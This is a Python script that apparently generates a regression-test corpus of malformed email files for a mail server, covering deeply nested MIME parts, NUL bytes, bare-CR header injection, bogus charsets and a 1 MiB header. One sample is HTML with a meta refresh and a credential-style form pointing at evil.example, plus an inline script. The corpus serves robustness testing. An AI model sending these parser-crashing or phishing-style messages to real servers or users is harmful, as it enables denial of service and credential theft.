"""Writes the hostile-message corpus of this folder (``python tests/data/hostile/make_corpus.py``).

The .eml files are committed; this script says how each one was made, and remakes them. Every message is one that
a mail server must accept, keep, list and show without a 5xx, a traceback or a crash (issue 11, "Regression net").
Line endings are LF (the Maildir convention); the SMTP tests send them with CRLF.
"""

from __future__ import annotations

import base64
from pathlib import Path

HERE = Path(__file__).resolve().parent
HEAD = b"From: Hostile <hostile@sender.test>\nTo: victim@example.test\nDate: Mon, 2 Mar 2026 10:00:00 +0000\n"


def nested_multipart(depth: int) -> bytes:
    """``depth`` multiparts each holding the next one: the stdlib parser recurses once per level."""
    body = b"".join(b'Content-Type: multipart/mixed; boundary="b%d"\n\n--b%d\n' % (i, i) for i in range(depth))
    body += b"Content-Type: text/plain\n\nthe innermost text\n"
    body += b"".join(b"--b%d--\n" % i for i in reversed(range(depth)))
    return HEAD + b"Subject: nested multipart x%d\nMIME-Version: 1.0\n" % depth + body


def nested_rfc822(depth: int) -> bytes:
    """``depth`` message/rfc822 parts, each a forwarded copy of the next."""
    body = b"".join(b"Content-Type: message/rfc822\n\nSubject: level %d\n" % i for i in range(depth))
    body += b"Content-Type: text/plain\n\nbottom\n"
    return HEAD + b"Subject: nested message/rfc822 x%d\nMIME-Version: 1.0\n" % depth + body


def many_parts(n: int) -> bytes:
    parts = b"".join(b"--p\nContent-Type: text/plain\n\n%d\n" % i for i in range(n))
    return (HEAD + b'Subject: %d sibling parts\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="p"\n\n' % n
            + parts + b"--p--\n")


CORPUS: dict[str, bytes] = {
    "deep-multipart-1000.eml": nested_multipart(1000),
    "deep-rfc822-300.eml": nested_rfc822(300),
    "many-parts-12000.eml": many_parts(12000),
    "unknown-charset.eml": HEAD + (
        b"Subject: =?x-no-such-charset?Q?caf=E9?= and =?utf-8?B?!!not-base64!!?=\nMIME-Version: 1.0\n"
        b'Content-Type: multipart/alternative; boundary="u"\n\n'
        b"--u\nContent-Type: text/plain; charset=x-no-such-charset\nContent-Transfer-Encoding: 8bit\n\n"
    ) + "caf\xe9 cr\xe8me br\xfbl\xe9e\n".encode("latin-1") + (
        b"--u\nContent-Type: text/html; charset=idna\nContent-Transfer-Encoding: 8bit\n\n"
    ) + b"<p>\xff\xfe idna is no charset</p>\n--u--\n",
    "nul-bytes.eml": HEAD + b"Subject: nul\x00in subject\nX-Nul: a\x00b\n\nbody with \x00 NUL octets \x00\x00\n",
    "bare-cr.eml": HEAD + b"Subject: bare CR\rX-Injected: yes\n\nline one\rline two\r\n.\rnot the end\n",
    "8bit-field-names.eml": HEAD + "Sübject: 8-bit name\nX-Naïve: yes\nSubject: 8-bit field names\n\nbody\n"
    .encode(),
    "header-line-1mb.eml": HEAD + b"Subject: " + b"A" * (1 << 20) + b"\n\nbody after a 1 MiB header line\n",
    "broken-boundaries.eml": HEAD + (
        b"Subject: broken MIME boundaries\nMIME-Version: 1.0\nContent-Type: multipart/mixed\n\n"  # no boundary
        b"--x\nContent-Type: text/plain\n\nno boundary parameter\n--x--\n"
    ),
    "unclosed-boundary.eml": HEAD + (
        b'Subject: unclosed boundary\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="open"\n\n'
        b'--open\nContent-Type: multipart/alternative; boundary="inner"\n\n--inner\nContent-Type: text/plain\n\n'
        b"never closed\n--open\nContent-Type: application/octet-stream; name=\"x.bin\"\n"
        b"Content-Transfer-Encoding: base64\n\n!!!not base64 at all!!!\n"
    ),
    "date-out-of-range.eml": b"From: a@sender.test\nTo: b@example.test\nDate: Fri, 31 Dec 9999 23:59:59 -2359\n"
                             b"Subject: date beyond year 9999 in UTC\n\nx\n",
    "meta-refresh.eml": HEAD + (
        b"Subject: meta refresh\nMIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n"
        b'<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/">'
        b'<META HTTP-EQUIV=Refresh CONTENT="1; URL=https://evil.example/2"></head>'
        b'<body><p>hello</p><form action="https://evil.example/steal"><input name=p></form>'
        b"<script>document.title='pwned'</script></body></html>\n"
    ),
    "attachment-filename-8bit.eml": HEAD + (
        b'Subject: 8-bit attachment name\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="a"\n\n'
        b"--a\nContent-Type: text/plain\n\nsee attached\n--a\n"
    ) + b'Content-Type: application/pdf; name="r\xe9sum\xe9\xff.pdf"\nContent-Disposition: attachment; '
                 b'filename="r\xe9sum\xe9\xff.pdf"\nContent-Transfer-Encoding: base64\n\n'
    + base64.b64encode(b"%PDF-1.4 fake") + b"\n--a--\n",
}


def main() -> None:
    for name, data in CORPUS.items():
        (HERE / name).write_bytes(data)


if __name__ == "__main__":
    main()
